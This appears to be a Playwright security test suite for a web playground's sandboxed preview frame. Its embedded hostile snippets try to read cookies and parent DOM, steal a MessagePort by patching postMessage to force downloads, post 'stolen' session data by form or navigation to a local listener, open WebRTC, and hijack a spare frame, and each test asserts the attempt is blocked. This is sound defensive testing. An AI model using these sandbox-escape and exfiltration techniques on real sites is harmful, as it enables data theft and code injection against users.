import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from './profile';
import { afterRebuild, openTemplate, preview, replaceFile } from './helpers';

test.describe.configure({ timeout: 120_000 });

/** Client code that tries everything it must not be able to do, and shows what happened. */
const PROBE = `import { render } from 'preact';

async function attempt(name: string, run: () => unknown): Promise<string> {
  try {
    const value = await run();
    return name + ': REACHED ' + String(value).slice(0, 60);
  } catch (error) {
    return name + ': blocked';
  }
}

async function probe() {
  const results = [
    await attempt('indexedDB', () => new Promise((resolve, reject) => {
      const request = indexedDB.open('platform-playground');
      request.onsuccess = () => resolve('opened');
      request.onerror = () => reject(request.error);
    })),
    await attempt('cookie', () => { const c = document.cookie; if (!c.includes('secret')) throw new Error('no secret'); return c; }),
    await attempt('parent DOM', () => parent.document.title),
    await attempt('top DOM', () => top!.document.body.innerHTML),
    await attempt('localStorage', () => localStorage.getItem('platform-theme') ?? 'readable'),
    await attempt('fetch', async () => (await fetch(location.ancestorOrigins?.[0] ?? 'http://127.0.0.1:4173/')).status),
    await attempt('fetch absolute', async () => (await fetch('http://127.0.0.1:4173/app.manifest.schema.json')).status),
    await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:4173/'); x.onload = () => resolve(x.status); x.onerror = () => reject(new Error('x')); x.send(); })),
    await attempt('websocket', () => new Promise((resolve, reject) => { const w = new WebSocket('ws://127.0.0.1:4173/'); w.onopen = () => resolve('open'); w.onerror = () => reject(new Error('w')); })),
  ];
  return results;
}

function App() {
  return <ul id="results" />;
}

render(<App />, document.getElementById('app')!);
void probe().then((results) => {
  const list = document.getElementById('results')!;
  for (const line of results) {
    const item = document.createElement('li');
    item.textContent = line;
    list.appendChild(item);
  }
  list.setAttribute('data-done', 'yes');
});
`;

const LOOP = `import { render } from 'preact';
render(<p id="about-to-loop">looping</p>, document.getElementById('app')!);
setTimeout(() => { for (;;) {} }, 200);
`;

async function replaceClient(page: Page, text: string) {
  // "Ready" shows before the edit's quiet window ends too: wait for the new build in the preview.
  await afterRebuild(page, () => replaceFile(page, 'main.tsx', () => text));
}

test('code in the preview cannot read the playground\'s storage, cookies or DOM, nor reach the network', async ({ page, context }, testInfo) => {
  await context.addCookies([{ name: 'playground', value: 'secret-cookie', url: 'http://127.0.0.1:4173' }]);
  await openTemplate(page);
  await replaceClient(page, PROBE);
  const results = page.frameLocator('iframe.preview-frame').locator('#results[data-done="yes"] li');
  await expect(results).toHaveCount(9, { timeout: 20_000 });
  const lines = await results.allInnerTexts();
  await testInfo.attach('probe results', { body: lines.join('\n'), contentType: 'text/plain' });
  for (const line of lines) expect(line, line).toMatch(/: blocked$/);
});

test('a loop in client code leaves the page answering, and the preview that stopped answering is ended and reported', async ({ page }) => {
  await openTemplate(page);
  await replaceClient(page, LOOP);
  // The preview's thread is busy from here on (so the frame itself cannot be queried).
  await page.waitForTimeout(1000);
  // The playground's own page keeps answering (a frozen page never would; speed is the bench's to measure).
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
  // The stuck preview is stopped, and says so.
  await expect(page.getByText('The preview stopped responding')).toBeVisible({ timeout: 15_000 });
  // The page handles its events at once. (Pointer input dispatched through the DevTools protocol stays
  // blocked while the looping process lives on after its frame is removed: see the closing note.)
  await page.getByRole('tab', { name: 'Events' }).dispatchEvent('click');
  await expect(page.locator('.events li[data-kind="preview.unresponsive"]').first()).toBeVisible();
});

/**
 * Hostile client code from a shared link: it patches MessagePort.prototype.postMessage, so the
 * bootstrap's next message hands it the port to the playground, and asks for downloads on its own.
 */
const PORT_THIEF = `import { render } from 'preact';
let stolen: MessagePort | undefined;
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
  stolen = this;
  return (original as (...a: unknown[]) => void).apply(this, args);
};
function grab() {
  if (!stolen) return setTimeout(grab, 10);
  stolen.postMessage({ type: 'download', path: '/favicon.svg', name: 'invoice.html' });
  stolen.postMessage({ type: 'download', path: '/favicon.svg', name: 'update.exe' });
  document.getElementById('state')!.textContent = 'sent';
}
render(
  <main>
    <p id="state">waiting</p>
    <button id="harmless" onClick={() => stolen!.postMessage({ type: 'download', path: '/favicon.svg', name: 'update.exe' })}>Add todo</button>
  </main>,
  document.getElementById('app')!,
);
grab();
`;

test('a captured preview port cannot download anything without a person, and a click in the app only offers a download the person confirms', async ({ page }, testInfo) => {
  const downloads: string[] = [];
  page.on('download', (download) => downloads.push(download.suggestedFilename()));
  await openTemplate(page);
  await replaceClient(page, PORT_THIEF);
  await expect(preview(page).locator('#state')).toHaveText('sent');
  await page.getByRole('tab', { name: 'Events' }).click();
  const notices = page.locator('.events li[data-kind="preview.notice"]');
  // Both asks are refused on the playground's side (where the app's code cannot fake a click).
  await expect(notices.filter({ hasText: 'save invoice.html from /favicon.svg without a click in it: refused' })).toHaveCount(1);
  await expect(notices.filter({ hasText: 'save update.exe from /favicon.svg without a click in it: refused' })).toHaveCount(1);
  // A person's click on something harmless in the app: what the app asks then is only an offer.
  await preview(page).getByRole('button', { name: 'Add todo' }).click();
  const offer = page.getByRole('alertdialog', { name: 'Download from the preview' });
  await expect(offer).toContainText('update.exe');
  expect(downloads).toEqual([]);
  await testInfo.attach('offer', { body: await page.screenshot(), contentType: 'image/png' });
  await offer.getByRole('button', { name: 'Dismiss' }).click();
  await expect(offer).toHaveCount(0);
  expect(downloads).toEqual([]);
});

/**
 * Hostile client code that posts the page a fetch no browser would send (a header name that Request
 * refuses) through the captured port, and waits for the answer to it.
 */
const BAD_REQUEST = `import { render } from 'preact';
let stolen: MessagePort | undefined;
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
  stolen = this;
  return (original as (...a: unknown[]) => void).apply(this, args);
};
function ask() {
  if (!stolen) return setTimeout(ask, 10);
  stolen.addEventListener('message', (event: MessageEvent) => {
    if (event.data?.id === 9001) document.getElementById('state')!.textContent = \`\${event.data.type} \${event.data.error?.code ?? ''}\`;
  });
  stolen.postMessage({ type: 'fetch', id: 9001, method: 'GET', path: '/api/x', headers: [['bad name', 'x']], body: null });
}
render(<p id="state">waiting</p>, document.getElementById('app')!);
ask();
`;

test('a fetch through a captured port that no browser would send is answered as a failed fetch, not left hanging', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await openTemplate(page);
  await replaceClient(page, BAD_REQUEST);
  await expect(preview(page).locator('#state')).toHaveText('error network_error');
  expect(errors).toEqual([]);
});

/** A listener on loopback that records every request: where the app would send what it stole. */
async function listener(): Promise<{ url: string; hits: string[]; firstHit: Promise<string>; close(): Promise<void> }> {
  const hits: string[] = [];
  let hit!: (line: string) => void;
  const firstHit = new Promise<string>((resolve) => (hit = resolve));
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      const line = `${request.method} ${request.url} ${body}`;
      hits.push(line);
      hit(line);
      response.end('<p>got it</p>');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, firstHit, close: () => new Promise((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    }),
  };
}

/** Whichever comes first: the thief's listener hearing from the app, or the sign that it was refused. */
async function refusedOrLeaked(leak: Promise<string>, refused: Promise<unknown>): Promise<string> {
  return Promise.race([leak.then((line) => `LEAKED ${line}`), refused.then(() => 'refused')]);
}

test('a form post from the preview reaches no one', async ({ page }) => {
  const thief = await listener();
  try {
    await openTemplate(page);
    await replaceClient(
      page,
      `import { render } from 'preact';
render(<p id="ready">posting</p>, document.getElementById('app')!);
addEventListener('securitypolicyviolation', (event) => document.getElementById('ready')!.setAttribute('data-refused', event.violatedDirective));
const form = document.createElement('form');
form.method = 'POST';
form.action = '${thief.url}/collect';
const field = document.createElement('input');
field.name = 'stolen';
field.value = 'alice-session-data';
form.appendChild(field);
document.body.appendChild(form);
form.submit();
`,
    );
    // Refused either in the page (a CSP violation it sees) or as a navigation the playground stops.
    const refused = Promise.any([
      expect(preview(page).locator('#ready')).toHaveAttribute('data-refused', 'form-action', { timeout: 30_000 }),
      expect(page.locator('.preview-stopped')).toContainText('tried to navigate its preview away', { timeout: 30_000 }),
    ]);
    expect(await refusedOrLeaked(thief.firstHit, refused)).toBe('refused');
    expect(thief.hits).toEqual([]);
  } finally {
    await thief.close();
  }
});

test('the preview cannot navigate itself out of the app, with a script or a scripted link click', async ({ page }, testInfo) => {
  const thief = await listener();
  try {
    await openTemplate(page);
    await page.getByRole('tab', { name: 'Events' }).click();
    const left = page.locator('.events li[data-kind="preview.notice"]').filter({ hasText: 'tried to navigate away from the app' });
    for (const [how, code] of [
      ['location', `location.href = '${thief.url}/nav?stolen=alice-session-data';`],
      ['link', `const a = document.createElement('a'); a.href = '${thief.url}/link?stolen=alice-session-data'; document.body.appendChild(a); a.click();`],
    ] as const) {
      const before = await left.count();
      await replaceClient(page, `import { render } from 'preact';\nrender(<p>${how}</p>, document.getElementById('app')!);\nsetTimeout(() => { ${code} }, 0);\n`);
      const refused = expect(left).toHaveCount(before + 1, { timeout: 30_000 });
      expect(await refusedOrLeaked(thief.firstHit, refused), how).toBe('refused');
      await expect(page.locator('.preview-stopped')).toContainText('tried to navigate its preview away');
    }
    await testInfo.attach('stopped', { body: await page.screenshot(), contentType: 'image/png' });
    expect(thief.hits).toEqual([]);
  } finally {
    await thief.close();
  }
});

test('WebRTC is not available to app code, not even in a frame the app makes', async ({ page }) => {
  const stun = createSocket('udp4');
  let packet!: (size: number) => void;
  const packets = new Promise<number>((resolve) => (packet = resolve));
  stun.on('message', (message) => packet(message.length));
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  const target = `stun:127.0.0.1:${stun.address().port}`;
  try {
    await openTemplate(page);
    const attempt = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${target}' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); return 'REACHED'; } catch (error) { return 'blocked'; }`;
    // A frame of the app's own making has a fresh window of its own, with its own RTCPeerConnection.
    const nestedDocument = `<script>parent.postMessage((function () { ${attempt} })(), '*')</` + `script>`;
    await replaceClient(
      page,
      `import { render } from 'preact';
function own() { ${attempt} }
let nestedSaid = 'blocked';
addEventListener('message', (event) => { if (event.source === nested.contentWindow) nestedSaid = String(event.data); });
const nested = document.createElement('iframe');
nested.srcdoc = ${JSON.stringify(nestedDocument)};
nested.onload = () => render(<p id="result" data-own={own()} data-nested={nestedSaid}>done</p>, document.getElementById('app')!);
document.body.appendChild(nested);
`,
    );
    const result = preview(page).locator('#result');
    const settled = expect(result).toHaveText('done', { timeout: 30_000 });
    expect(await refusedOrLeaked(packets.then((size) => `STUN packet of ${size} bytes`), settled)).toBe('refused');
    await expect(result).toHaveAttribute('data-own', 'blocked');
    await expect(result).toHaveAttribute('data-nested', 'blocked');
  } finally {
    stun.close();
  }
});

/**
 * Client code that posts `prelude` and `init` (the playground's messages that run code in a frame, the
 * second with a port of its own) to every other frame of the page, again and again: among them the
 * frame kept loaded, hidden, for the next build's preview (preview-pane.tsx). Only the playground may
 * run code in a preview.
 */
const HIJACK = `import { render } from 'preact';

let posts = 0;
const code = "document.body.innerHTML = '<h1 id=hijacked>hijacked</h1>'";
setInterval(() => {
  for (let i = 0; i < parent.frames.length; i++) {
    const target = parent.frames[i];
    if (target === window) continue;
    const channel = new MessageChannel();
    try {
      // The prelude: what the playground has the kept frame run ahead (a React app's vendor script).
      target.postMessage({ type: 'prelude', code }, '*');
      target.postMessage({ type: 'init', code, title: 'hijacked', lang: 'en', assets: {} }, '*', [channel.port2]);
      posts++;
    } catch {
      // a frame being removed
    }
  }
  document.getElementById('posts')!.textContent = String(posts);
}, 20);

render(<p>posted <span id="posts">0</span></p>, document.getElementById('app')!);
`;

test('a preview cannot start the frame kept ready for the next build with code of its own', async ({ page }) => {
  await openTemplate(page);
  await replaceClient(page, HIJACK);
  // The next build's frame is made once this preview is up; the probe keeps posting to it.
  await expect(page.locator('iframe.preview-frame-spare')).toHaveCount(1, { timeout: 20_000 });
  const posts = preview(page).locator('#posts');
  const before = Number(await posts.textContent());
  await expect.poll(async () => Number(await posts.textContent()), { timeout: 20_000 }).toBeGreaterThan(before + 50);
  await replaceClient(page, `import { render } from 'preact';\nrender(<h1>genuine</h1>, document.getElementById('app')!);\n`);
  await expect(preview(page).getByRole('heading', { name: 'genuine' })).toBeVisible();
  await expect(preview(page).locator('#hijacked')).toHaveCount(0);
});
